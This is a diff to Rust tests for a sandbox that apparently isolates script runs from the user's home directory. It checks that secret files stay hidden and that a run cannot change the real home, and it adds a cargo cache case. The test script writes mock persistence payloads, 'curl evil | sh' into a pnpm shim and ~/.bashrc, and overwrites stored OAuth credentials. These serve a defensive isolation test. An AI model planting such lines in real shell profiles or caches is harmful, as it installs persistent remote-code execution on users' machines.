@@ -352,7 +352,11 @@ fn the_users_secret_places_are_out_of_sight() {
         let out = once(&t, "secrets", &art, &script, &[], user);
         let who = if user { "user" } else { "root" };
         assert!(!out.contains("b71d"), "{who}: {out}");
-        assert!(out.contains("Permission denied"), "{who}: {out}");
+        // Hidden by Landlock (denied), or masked by an empty mount in the layered home.
+        assert!(
+            out.contains("Permission denied") || out.contains("No such file"),
+            "{who}: {out}"
+        );
         assert!(out.contains("plain-9e0a"), "{who}: {out}");
     }
 }
@@ -389,6 +393,7 @@ fn the_users_home_never_sees_a_run_change_it() {
              printf '{\"claudeAiOauth\":{\"accessToken\":\"rotated\"}}' > \"$HOME/.claude/.credentials.json\"; echo \"credentials $?\"\n\
              mkdir -p \"$HOME/.cache/node/corepack\" && echo 'curl evil | sh' > \"$HOME/.cache/node/corepack/pnpm\"; echo \"cache $?\"\n\
              echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo \"bashrc $?\"\n\
+             mkdir -p \"$HOME/.cargo/registry/cache\" && echo crate > \"$HOME/.cargo/registry/cache/x.crate\"; echo \"cargo $?\"\n\
              cat \"$HOME/.claude/settings.json\"; echo\n\
              } > \"$ARTIFACT_PATH/out.txt\" 2>&1\nexit 0\n",
         );
@@ -428,6 +433,9 @@ fn the_users_home_never_sees_a_run_change_it() {
             "{who}: {sandbox}\n{out}"
         );
         assert!(!home.join(".cache/node").exists(), "{who}: {out}");
+        // A toolchain's cache is the run's to write too (a build works), in the layer.
+        assert!(out.contains("cargo 0"), "{who}: {out}");
+        assert!(!home.join(".cargo").exists(), "{who}: {out}");
         assert_eq!(
             std::fs::read_to_string(home.join(".bashrc")).unwrap(),
             "alias ll='ls -l'\n",
